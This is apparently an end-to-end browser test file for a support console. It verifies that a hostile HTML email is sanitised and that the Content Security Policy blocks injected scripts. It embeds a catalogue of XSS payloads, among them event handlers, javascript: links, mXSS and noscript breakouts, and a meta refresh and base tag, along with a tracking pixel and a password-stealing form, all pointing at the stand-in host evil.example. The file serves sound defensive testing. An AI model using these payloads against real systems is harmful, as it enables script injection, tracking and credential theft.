"""No script from a mail ever runs in the console, and opening a mail tells its sender nothing."""

from __future__ import annotations

import re
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from playwright.sync_api import ConsoleMessage, Dialog, Page, expect

from tests.e2e.browser.conftest import AGENT, LiveConsole, Traffic, sign_in

pytestmark = pytest.mark.e2e

EVIL = "http://evil.example"
# Every payload that ran would set window.__pwned (or open a dialog, or fetch from EVIL).
HOSTILE_HTML = f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url={EVIL}/refreshed">
<base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/sheet.css">
<style>
  body {{ background: url(javascript:window.__pwned='style-url') }}
  p {{ width: expression(window.__pwned='expression'); background-image: url({EVIL}/css-bg.png) }}
  @import url({EVIL}/imported.css);
</style>
<script>window.__pwned = 'script'; alert('script')</script>
</head>
<body onload="window.__pwned='body-onload'">
<p>Dear support, please find the invoice below.</p>
<img src=x onerror="window.__pwned='img-onerror'; alert('img')">
<img src="{EVIL}/pixel.gif?who=staff" width=1 height=1>
<a id="js-link" href="javascript:window.__pwned='javascript-link'; alert('link')">Open the invoice</a>
<a href="JaVaScRiPt&colon;window.__pwned='entity-link'">Pay now</a>
<svg onload="window.__pwned='svg-onload'; alert('svg')"><circle r=5 /></svg>
<iframe src="javascript:parent.__pwned='iframe-js'"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<iframe src="{EVIL}/framed"></iframe>
<object data="{EVIL}/object.swf"></object>
<embed src="{EVIL}/embed.swf">
<form action="{EVIL}/steal" method="post"><input name="password" value="secret">
  <button id="steal" type="submit">Confirm your password</button></form>
<div style="background:url({EVIL}/inline-bg.png); behavior:url(#default#time2)">styled</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></p></noscript>
<details open ontoggle="window.__pwned='ontoggle'"><summary>more</summary></details>
<video><source onerror="window.__pwned='video'"></video>
<p>Regards, Mallory</p>
</body></html>"""


def hostile_mail() -> bytes:
    msg = EmailMessage(policy=SMTP)
    msg["From"] = "Mallory <mallory@evil.example>"
    msg["To"] = "ONETEXNO <hello@1texno.kz>"
    msg["Subject"] = "Invoice <img src=x onerror=\"window.__pwned='subject'\">"
    msg["Message-ID"] = "<hostile-1@evil.example>"
    msg.set_content("Dear support, please find the invoice below. <script>window.__pwned='text'</script>")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    return msg.as_bytes()


def test_hostile_html_mail_runs_no_script_and_loads_nothing_from_elsewhere(
    console: LiveConsole, page: Page, traffic: Traffic
) -> None:
    console.add_staff(AGENT)
    console.receive(hostile_mail())
    dialogs: list[str] = []
    console_messages: list[str] = []
    page.on("dialog", lambda dialog: record_dialog(dialog, dialogs))
    page.on("console", lambda message: console_messages.append(describe(message)))
    page.add_init_script(WATCH_CSP)  # set before any page script: runs despite the CSP, by design
    sign_in(page, AGENT)

    expect(page.locator("table.queue tbody tr")).to_contain_text("Invoice <img src=x onerror=")
    with page.expect_response(lambda r: r.request.resource_type == "document") as opened:
        page.locator("table.queue tbody tr a").first.click()
    response = opened.value
    page.locator("details.html > summary").click()
    html = page.locator("div.mail-html")
    expect(html).to_be_visible()
    expect(html).to_contain_text("Dear support, please find the invoice below.")
    expect(html).to_contain_text("Regards, Mallory")
    page.locator("div.mail-html a", has_text="Open the invoice").click()  # a defused link does nothing
    page.wait_for_timeout(300)  # give anything that slipped through (timers, onload) its chance

    assert dialogs == []
    assert console_messages == []
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("window.__cspViolations") == []
    assert traffic.elsewhere == []
    assert page.url.startswith(console.url + "/tickets/")  # no meta refresh took us away
    assert page.evaluate("document.baseURI") == page.url  # no <base> was planted
    assert html.locator("script, style, iframe, object, embed, form, svg, img, meta, base, link").count() == 0
    assert html.locator("[style], [onerror], [onload]").count() == 0
    expect(page.locator("details.html > summary")).to_contain_text(re.compile(r"\d+ image\(s\) not loaded"))
    expect(page.locator("article.mail pre.new-text")).to_contain_text(
        "<script>window.__pwned='text'</script>"
    )

    csp = response.headers["content-security-policy"]
    script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
    assert script_src.split() == ["script-src", "'self'"]
    assert "object-src 'none'" in csp
    assert "base-uri 'none'" in csp


def test_content_security_policy_stops_an_inline_script_that_got_into_the_page(
    console: LiveConsole, page: Page
) -> None:
    """The second wall: were the sanitiser to let a script through, the browser would not run it."""
    console.add_staff(AGENT)
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text))
    sign_in(page, AGENT)

    page.evaluate(
        """() => {
            const s = document.createElement('script');
            s.textContent = "window.__pwned = 'inline'";
            document.body.append(s);
            const img = document.createElement('img');
            img.setAttribute('src', 'x');
            img.setAttribute('onerror', "window.__pwned = 'handler'");
            document.body.append(img);
        }"""
    )
    page.wait_for_timeout(200)

    assert page.evaluate("window.__pwned") is None
    assert any("Content Security Policy" in text for text in violations), violations


WATCH_CSP = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__cspViolations.push(e.violatedDirective + ' ' + e.blockedURI);
});
"""


def record_dialog(dialog: Dialog, seen: list[str]) -> None:
    seen.append(f"{dialog.type}: {dialog.message}")
    dialog.dismiss()


def describe(message: ConsoleMessage) -> str:
    return f"{message.type}: {message.text}"
